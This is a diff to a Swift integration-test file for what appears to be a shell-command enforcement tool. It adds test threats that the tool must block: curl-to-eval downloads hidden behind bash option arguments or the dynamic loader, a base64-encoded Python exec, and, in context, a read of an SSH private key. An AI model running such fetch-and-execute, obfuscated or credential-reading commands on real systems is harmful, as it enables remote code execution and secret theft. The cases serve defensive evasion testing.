@@ -34,6 +34,22 @@ struct EnforceIntegrationTests {
         Threat(name: "a read of ~/.ssh/id_ed25519", rule: "credential-file-read") { _, _ in
             "cat \"$HOME/.ssh/id_ed25519\"\n"
         },
+        // The argv grammar (issue #10): option arguments are not script paths, clusters carry -c,
+        // and the dynamic loader run as a program is an exec of its program.
+        Threat(name: "bash -o errexit -c evaluating a download", rule: "shell-evaluates-download") { h, port in
+            try h.write("www/i.sh", "echo pwned >> MARKERS\n")
+            return "bash -o errexit -O extglob -c 'eval \"$(curl -fsS http://127.0.0.1:\(port)/i.sh)\"'\n"
+        },
+        Threat(name: "python3 -Ic decoding and executing", rule: "inline-code-decodes-and-executes") { h, _ in
+            let payload = Data("open('\(h.path("MARKERS"))', 'a').write('pwned\\n')".utf8).base64EncodedString()
+            return "/usr/bin/python3 -Ic \"exec(__import__('base64').b64decode('\(payload)'))\"\n"
+        },
+        Threat(name: "the dynamic loader running dash on a download", rule: "shell-evaluates-download") { h, port in
+            try h.write("www/i.sh", "echo pwned >> MARKERS\n")
+            let candidates: [String] = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
+            let loader = candidates.first { FileManager.default.isExecutableFile(atPath: $0) } ?? candidates[0]
+            return "\(loader) /bin/dash -c 'eval \"$(curl -fsS http://127.0.0.1:\(port)/i.sh)\"'\n"
+        },
     ]
 
     static let secret = "WARDEN-FAKE-PRIVATE-KEY-7f3a"
